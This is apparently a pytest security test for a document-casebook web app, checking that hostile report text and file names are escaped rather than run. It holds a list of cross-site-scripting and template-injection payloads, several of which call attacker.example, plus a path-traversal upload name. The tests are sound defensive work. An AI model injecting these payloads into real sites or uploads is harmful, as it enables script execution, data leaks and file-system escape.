"""A hostile document is shown as the words it holds: nothing of it runs, and no request leaves the machine."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from desk.conftest import Serve, Served, at_rest, expect
from desk.handing import send, settled
from herodotus.casebook import add, init

PAYLOADS = (
    "<script>window.taken = 1</script>",
    "<img src=x onerror='window.taken = 1'>",
    "<svg onload='window.taken = 1'><animate onbegin='window.taken = 1'/></svg>",
    '<a href="javascript:window.taken = 1">a link</a>',
    "<style>body{background:url(https://attacker.example/leak)}</style>",
    "<link rel=stylesheet href=https://attacker.example/a.css>",
    "<iframe src=https://attacker.example></iframe>",
    "<form action=https://attacker.example><input name=a></form>",
    "\"><meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "{{ 7 * 7 }} ${7 * 7} {% raw %}",
)


def report(payload: str) -> str:
    """A report that holds it in a sentence that becomes a claim, and in a name."""
    return (
        f"On 3 May 2020 Kataib Hezbollah attacked the base {payload} near Taji, killing two soldiers.\n\n"
        f"The {payload} Brigade said that Iran backs Kataib Hezbollah.\n"
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A casebook of hostile reports, one of them a line of a megabyte."""
    folder = tmp_path_factory.mktemp("hostile")
    for number, payload in enumerate(PAYLOADS):
        (folder / f"{number}-<b onclick=alert(1)>.txt").write_text(report(payload), encoding="utf-8")
    page = f"<html><head><title>{PAYLOADS[0]}</title></head><body><p>{report(PAYLOADS[1])}</p></body></html>"
    (folder / "page.html").write_text(page, encoding="utf-8")
    line = "On 4 May 2020 Iran attacked a base. " + "<script>window.taken = 1</script> " * 30_000
    (folder / "line.txt").write_text(line[:1_000_000], encoding="utf-8")
    with init(folder / "book") as casebook:
        add(casebook, [str(path) for path in sorted(folder.glob("*.*"))], by="ann")
    return folder / "book"


def test_no_page_runs_a_word_of_it(serve: Serve, hostile: Path, tab: Any) -> None:
    desk = serve(hostile)
    asked: list[str] = []
    tab.on("dialog", lambda dialog: asked.append(dialog.message))
    for path in _paths(desk):
        tab.goto(desk.base + path)
        at_rest(tab)
        assert tab.evaluate("window.taken === undefined"), path
        assert tab.locator("main script, main iframe:not([sandbox]), main meta, main link").count() == 0, path
        assert tab.locator("main a[href^='javascript:' i]").count() == 0, path
    assert not asked


def test_words_are_shown_as_they_are_written(serve: Serve, hostile: Path, tab: Any) -> None:
    desk = serve(hostile)
    texts = [reading.document for reading in desk.casebook.store.readings() if "{{ 7" in reading.document.text]
    tab.goto(f"{desk.base}/documents/{texts[0].id}")
    expect(tab.locator("main")).to_contain_text("{{ 7 * 7 }} ${7 * 7} {% raw %}")


def test_a_hostile_name_of_a_file_is_only_a_name(serve: Serve, hostile: Path) -> None:
    import httpx

    desk = serve(hostile)
    with httpx.Client(base_url=desk.base, timeout=60) as client:
        send(client, ("../../../etc/<svg onload=alert(1)>.txt", b"Iran denied everything on 3 May 2020."))
        told = settled(client)
    assert "<svg onload" not in told
    assert "&lt;svg onload" in told
    assert not (hostile.parent / "etc").exists()


def _paths(desk: Served) -> list[str]:
    store = desk.casebook.store
    documents = [f"/documents/{reading.document.id}" for reading in store.readings()]
    actors = [f"/actors/{one.actor.id}" for one in store.actors_page().actors][:6]
    rooms = ["/", "/documents", "/review", "/actors", "/network", "/timeline", "/search?q=Brigade", "/sources", "/log"]
    return [*documents, *actors, *rooms, "/questions/timeline", "/brief"]
